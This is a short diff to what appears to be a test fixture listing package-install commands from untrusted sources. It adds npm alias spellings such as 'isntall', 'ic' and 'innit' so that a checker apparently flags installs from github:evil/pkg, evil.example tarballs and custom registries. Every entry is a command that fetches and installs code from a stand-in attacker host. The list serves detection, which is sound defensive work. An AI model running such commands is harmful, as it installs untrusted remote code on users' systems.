@@ -47,6 +47,12 @@ OTHER_SOURCE = [
     "npm install github:evil/pkg",
     "npm install git+https://github.com/evil/pkg.git",
     "npm install https://evil.example/pkg.tgz",
+    # npm's own spellings of its installing commands (its alias table)
+    "npm isntall github:evil/pkg",
+    "npm ic git+https://github.com/evil/pkg.git",
+    "npm clean-install https://evil.example/pkg.tgz",
+    "npm udpate github:evil/pkg",
+    "npm innit github:evil/starter",
     "pnpm add --registry=https://evil.example x",
     "pnpm add github:evil/pkg",
     "yarn add --registry https://evil.example x",
